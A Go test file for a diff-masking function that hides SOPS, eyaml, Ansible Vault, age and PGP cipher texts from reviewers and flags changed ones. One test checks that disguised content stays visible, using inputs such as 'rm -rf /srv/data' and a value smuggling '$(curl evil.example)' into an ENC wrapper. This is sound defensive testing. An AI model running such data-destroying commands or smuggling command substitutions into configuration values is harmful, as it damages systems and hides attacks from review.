package filekind

import (
	"bytes"
	"strings"
	"testing"

	"plumb/model/secret"
)

const (
	cipherA = "ENC[AES256_GCM,data:QUJD,iv:aXYx,tag:dGFn,type:str]"
	cipherB = "ENC[AES256_GCM,data:WFla,iv:aXYy,tag:dGFn,type:str]"
	hexA    = "38363233386634613464346139333661"
	hexB    = "65633463666661326138626137376337"
	base64A = "YWdlLWVuY3J5cHRpb24ub3JnL3YxCi0+IFgyNTUxOSBB"
	base64B = "YWdlLWVuY3J5cHRpb24ub3JnL3YxCi0+IFgyNTUxOSBC"
)

// fill writes the cipher texts in the place of A and B in braces.
func fill(s string) string {
	return strings.NewReplacer("{A}", cipherA, "{B}", cipherB, "{HA}", hexA, "{HB}", hexB, "{64A}", base64A, "{64B}", base64B).Replace(s)
}

func TestKeysAreShownAndCipherTextsNever(t *testing.T) {
	tests := []struct{ name, in, want string }{
		{"a value of SOPS", "db:\n  user: bob\n  password: {A}\n", "db:\n  user: bob\n  password: «encrypted»\n"},
		{"in JSON", `{"password": "{A}", "user": "bob"}`, `{"password": "«encrypted»", "user": "bob"}`},
		{"in dotenv", "DB_PASSWORD={A}\nPORT=80\n", "DB_PASSWORD=«encrypted»\nPORT=80\n"},
		{"a comment", "#{A}\nx: 1\n", "#«encrypted»\nx: 1\n"},
		{"two on a line", "[{A}, {B}]\n", "[«encrypted», «encrypted»]\n"},
		{"eyaml", "pw: ENC[PKCS7,MIIBeQYJKoZIhvc=]\n", "pw: «encrypted»\n"},
		{"eyaml on several lines", "pw: >\n  ENC[PKCS7,MIIB\n  {64A}\n  {64B}]\nport: 80\n", "pw: >\n  «encrypted»\n  «encrypted»\n  «encrypted»\nport: 80\n"},
		{"a vault in YAML", "pw: !vault |\n  $ANSIBLE_VAULT;1.1;AES256\n  {HA}\n  {HB}\n  3132\nport: 80\n",
			"pw: !vault |\n  $ANSIBLE_VAULT;1.1;AES256\n  «encrypted»\n  «encrypted»\n  «encrypted»\nport: 80\n"},
		{"a vault with a name and line ends of Windows", "pw: !vault |\r\n  $ANSIBLE_VAULT;1.2;AES256;prod\r\n  {HA}\r\nport: 80\r\n",
			"pw: !vault |\r\n  $ANSIBLE_VAULT;1.2;AES256;prod\r\n  «encrypted»\r\nport: 80\r\n"},
		{"a vault in JSON", `{"pw": "$ANSIBLE_VAULT;1.1;AES256\n{HA}\n{HB}\n"}`, `{"pw": "$ANSIBLE_VAULT;1.1;AES256«encrypted»"}`},
		{"the metadata of SOPS", "sops:\n  kms:\n  - arn: x\n    enc: {64A}\n  age:\n  - recipient: age1xyz\n    enc: |\n      -----BEGIN AGE ENCRYPTED FILE-----\n      {64A}\n      YQ==\n      -----END AGE ENCRYPTED FILE-----\n  mac: {A}\n",
			"sops:\n  kms:\n  - arn: x\n    enc: «encrypted»\n  age:\n  - recipient: age1xyz\n    enc: |\n      -----BEGIN AGE ENCRYPTED FILE-----\n      «encrypted»\n      «encrypted»\n      -----END AGE ENCRYPTED FILE-----\n  mac: «encrypted»\n"},
		{"the same in JSON", `"enc": "-----BEGIN AGE ENCRYPTED FILE-----\n{64A}\n-----END AGE ENCRYPTED FILE-----\n"`,
			`"enc": "-----BEGIN AGE ENCRYPTED FILE-----«encrypted»\n-----END AGE ENCRYPTED FILE-----\n"`},
		{"all of it on one line", `{"a":"{A}","sops":{"age":[{"enc":"-----BEGIN AGE ENCRYPTED FILE-----\n{64A}\n-----END AGE ENCRYPTED FILE-----\n"}],"mac":"{B}"}}`,
			`{"a":"«encrypted»","sops":{"age":[{"enc":"-----BEGIN AGE ENCRYPTED FILE-----«encrypted»\n-----END AGE ENCRYPTED FILE-----\n"}],"mac":"«encrypted»"}}`},
		{"armour of OpenPGP", "-----BEGIN PGP MESSAGE-----\nVersion: 2\n\n{64A}\n=aBcD\n-----END PGP MESSAGE-----\n", "-----BEGIN PGP MESSAGE-----\nVersion: 2\n\n«encrypted»\n«encrypted»\n-----END PGP MESSAGE-----\n"},
		{"nothing encrypted", "x: 1\nencoding: ENC\n", "x: 1\nencoding: ENC\n"},
	}
	for _, test := range tests {
		t.Run(test.name, func(t *testing.T) {
			in := []byte(fill(test.in))
			o, n := MaskEncrypted(in, in)
			if string(n) != test.want || string(o) != test.want {
				t.Errorf("got\n%s\nwant\n%s", n, test.want)
			}
			_, n = MaskEncrypted(nil, in)
			if string(n) != test.want {
				t.Errorf("a new file is\n%s", n)
			}
		})
	}
}

func TestNothingCanBeHiddenFromReviewersAsCipherText(t *testing.T) {
	for name, in := range map[string]string{
		"a command between the lines of armour": "# -----BEGIN AGE ENCRYPTED FILE-----\nreboot\nrm -rf /srv/data\n# x\n-----END AGE ENCRYPTED FILE-----\n",
		"armour without an end":                 "-----BEGIN PGP MESSAGE-----\n{64A}\nevil: true\n",
		"words after a vault":                   "# $ANSIBLE_VAULT;1.1;AES256\ndd\nevil: true\n",
		"a command in a value":                  "x: ENC[AES256_GCM,$(curl evil.example)]\n",
		"a key that is not of SOPS":             "enc: {64A}\n",
	} {
		t.Run(name, func(t *testing.T) {
			in = fill(in)
			_, n := MaskEncrypted(nil, []byte(in))
			got := strings.ReplaceAll(string(n), mark, "ENC[AES256_GCM,")
			if got != in {
				t.Errorf("shown is\n%s\nof\n%s", n, in)
			}
		})
	}
}

func TestAChangedCipherTextSaysSo(t *testing.T) {
	tests := []struct{ name, old, new, want string }{
		{"a value", "a: {A}\nb: {A}\n", "a: {A}\nb: {B}\n", "a: «encrypted»\nb: «encrypted, changed»\n"},
		{"a value that moved", "x: 1\na: {A}\n", "a: {B}\ny: 2\nz: 3\n", "a: «encrypted, changed»\ny: 2\nz: 3\n"},
		{"an item taken from the top of a list", "- {A}\n- {B}\n", "- {B}\n", "- «encrypted»\n"},
		{"a new key", "a: {A}\n", "a: {A}\nb: {B}\n", "a: «encrypted»\nb: «encrypted»\n"},
		{"another line around the same value", "a: {A} # old\n", "a: {A} # new\n", "a: «encrypted» # new\n"},
		{"two that changed places", "- {A}\n- {B}\n", "- {B}\n- {A}\n", ""},
		{"a vault", "pw: !vault |\n  $ANSIBLE_VAULT;1.1;AES256\n  {HA}\n  {HA}\n", "pw: !vault |\n  $ANSIBLE_VAULT;1.1;AES256\n  {HA}\n  {HB}\n",
			"pw: !vault |\n  $ANSIBLE_VAULT;1.1;AES256\n  «encrypted, changed»\n  «encrypted»\n"},
		{"a file that is new", "", "a: {A}\n", "a: «encrypted»\n"},
	}
	for _, test := range tests {
		t.Run(test.name, func(t *testing.T) {
			o, n := MaskEncrypted([]byte(fill(test.old)), []byte(fill(test.new)))
			if test.want != "" && string(n) != test.want {
				t.Errorf("got\n%s\nwant\n%s", n, test.want)
			}
			if bytes.Equal(o, n) {
				t.Error("they do not differ any more")
			}
		})
	}
}

func TestSecretsAndCipherTextsAreMaskedTogether(t *testing.T) {
	old, new := fill("password: {A}\ntoken: abc\nuser: {A}\n"), fill("password: {B}\ntoken: abd\nuser: {A}\n")
	o, n := secret.MaskPair("x.yaml", []byte(old), []byte(new), false)
	o, n = MaskEncrypted(o, n)
	if want := "password: «encrypted»\ntoken: «secret»\nuser: «encrypted»\n"; string(o) != want {
		t.Errorf("got\n%s", o)
	}
	if want := "password: «encrypted, changed»\ntoken: «secret, changed»\nuser: «encrypted»\n"; string(n) != want {
		t.Errorf("got\n%s", n)
	}
}

func TestAVersionThatDoesNotExistStaysSo(t *testing.T) {
	if o, n := MaskEncrypted(nil, []byte("x")); o != nil || n == nil {
		t.Error("the new version lost its old side")
	}
	if o, n := MaskEncrypted([]byte(cipherA), nil); string(o) != mark || n != nil {
		t.Error("the removed version is not masked")
	}
}

func FuzzMaskEncrypted(f *testing.F) {
	for _, s := range []string{"a: {A}\nb: {B}\n", "- {A}\n- {B}\n- {A}\n", "p: !vault |\n  $ANSIBLE_VAULT;1.1;AES256\n  {HA}\n  {HB}\nx: 1\n",
		"-----BEGIN PGP MESSAGE-----\n\n{64A}\n=aBcD\n-----END PGP MESSAGE-----\n", "pw: ENC[PKCS7,MIIB\n{64A}\n{64B}]\n", "sops:\n  enc: {64A}\n  mac: {A}"} {
		f.Add([]byte(fill(s)), []byte(fill(strings.ReplaceAll(s, "A}", "B}"))))
	}
	f.Fuzz(func(t *testing.T, old, new []byte) {
		o, n := MaskEncrypted(old, new)
		for _, v := range [][2][]byte{{old, o}, {new, n}} {
			if bytes.Count(v[0], []byte{'\n'}) != bytes.Count(v[1], []byte{'\n'}) {
				t.Fatalf("%q has another number of lines than %q", v[1], v[0])
			}
		}
		if same, again := MaskEncrypted(old, old); !bytes.Equal(same, again) {
			t.Fatalf("equal versions differ: %q, %q", same, again)
		}
		marks := bytes.Contains(old, []byte("«")) || bytes.Contains(new, []byte("«"))
		if !marks && !bytes.Equal(old, new) && bytes.Equal(o, n) {
			t.Fatalf("%q and %q do not differ any more: %q", old, new, n)
		}
	})
}
